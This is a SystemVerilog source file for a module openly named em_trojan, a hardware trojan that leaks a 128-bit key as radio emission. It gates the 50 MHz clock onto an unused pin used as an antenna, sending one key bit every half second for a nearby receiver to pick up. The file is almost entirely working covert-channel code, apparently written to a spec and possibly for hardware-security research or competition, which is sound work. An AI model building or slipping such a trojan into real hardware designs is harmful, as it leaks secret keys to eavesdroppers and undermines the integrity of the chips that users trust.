// em_trojan: leaks the key as radio emission from an unused output pin.
//
// A wire on the pin acts as an antenna. For a key bit of 1 the pin switches
// at the clock rate, a 50 MHz square wave at the default clock, which a
// receiver tuned near 50 MHz picks up; for a 0 the pin sits at a constant
// low level. Outside a transmission it is low too.
//
// The pin is the board clock gated by an enable that is retimed on the
// falling clock edge, so the gate only opens or closes while the clock is
// low and the pin shows whole clock pulses without glitches.
//
// Interface: `trigger` starts one pass over `key`; `antenna` drives the pin.
// Timing: each bit lasts BIT_CYCLES cycles, the pin follows the sequencer's
// bit half a clock cycle later.
//
// From the document: half a second per bit, 50 MHz switching for a 1 and a
// constant voltage for a 0. Producing the 50 MHz by gating the 50 MHz clock
// onto the pin, and the low level for a 0, are this design's choices.
module em_trojan #(
  parameter int unsigned WIDTH      = 128,
  parameter int unsigned BIT_CYCLES = 25_000_000
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             trigger,
  input  logic [WIDTH-1:0] key,
  output logic             antenna,
  output logic             active
);
  logic                     bit_val;
  logic [$clog2(WIDTH)-1:0] bit_index;
  logic                     gate_en;

  trojan_key_sequencer #(.WIDTH(WIDTH), .BIT_CYCLES(BIT_CYCLES)) u_seq (
    .clk, .rst, .trigger, .key, .active, .bit_val, .bit_index
  );

  always_ff @(negedge clk) begin
    if (rst) gate_en <= 1'b0;
    else     gate_en <= bit_val;
  end

  assign antenna = gate_en & clk;

endmodule
